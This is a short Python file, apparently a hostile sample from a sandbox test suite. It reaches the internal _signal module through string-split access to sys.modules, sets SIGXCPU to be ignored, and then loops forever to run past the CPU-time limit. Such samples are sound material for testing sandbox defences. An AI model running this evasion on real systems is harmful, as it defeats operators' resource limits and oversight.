# Tries: ignore SIGXCPU through the always-loaded _signal module, then spin past the CPU limit.
# ruff: noqa
import dataclasses
from operator import attrgetter

sig = attrgetter("sy" + "s.mod" + "ules")(dataclasses)["_" + "signal"]
sig.signal(sig.SIGXCPU, sig.SIG_IGN)
while True:
    pass
